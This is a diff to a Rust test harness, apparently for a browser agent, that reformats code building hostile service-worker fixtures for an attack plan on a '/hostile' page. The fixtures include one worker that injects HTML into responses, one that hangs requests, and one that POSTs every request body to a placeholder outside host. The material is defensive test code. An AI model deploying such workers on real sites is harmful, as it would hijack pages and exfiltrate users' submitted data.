@@ -100,7 +100,8 @@ async fn play(fixture: &Fixture, plan: &AttackPlan, runtime: &Arc<Runtime>) -> R
     let view = View::default();
     let mut seen = String::new();
     let secret = "${secret:pw}".to_owned();
-    let fill = |target: &str, text: String| Action::Fill(Fill { target: Target(target.to_owned()), text, submit: false });
+    let fill =
+        |target: &str, text: String| Action::Fill(Fill { target: Target(target.to_owned()), text, submit: false });
     let go = || Action::Click(Click::on(Target("#go".to_owned())));
     let actions = [
         Action::Open(Open { url: format!("{}/hostile", stage.home.origin) }),
@@ -147,9 +148,18 @@ impl Stage {
         let begin = "addEventListener('activate', e => e.waitUntil(clients.claim())); addEventListener('install', () => skipWaiting());";
         for (name, code) in [
             ("plain", ""),
-            ("answers", "addEventListener('fetch', e => e.respondWith(e.request.url.includes('/ordinary') ? fetch(e.request) : new Response('<h1>Injected</h1>', { headers: { 'content-type': 'text/html' } })))"),
-            ("hangs", "addEventListener('fetch', e => { if (!e.request.url.includes('/ordinary')) e.respondWith(new Promise(() => {})) })"),
-            ("sends", "addEventListener('fetch', e => { e.waitUntil(e.request.clone().text().then(body => fetch('%ELSEWHERE%', { method: 'POST', mode: 'no-cors', body }))) })"),
+            (
+                "answers",
+                "addEventListener('fetch', e => e.respondWith(e.request.url.includes('/ordinary') ? fetch(e.request) : new Response('<h1>Injected</h1>', { headers: { 'content-type': 'text/html' } })))",
+            ),
+            (
+                "hangs",
+                "addEventListener('fetch', e => { if (!e.request.url.includes('/ordinary')) e.respondWith(new Promise(() => {})) })",
+            ),
+            (
+                "sends",
+                "addEventListener('fetch', e => { e.waitUntil(e.request.clone().text().then(body => fetch('%ELSEWHERE%', { method: 'POST', mode: 'no-cors', body }))) })",
+            ),
         ] {
             home.put(&format!("/worker-{name}.js"), "text/javascript", format!("{begin}{}", script(code)));
         }
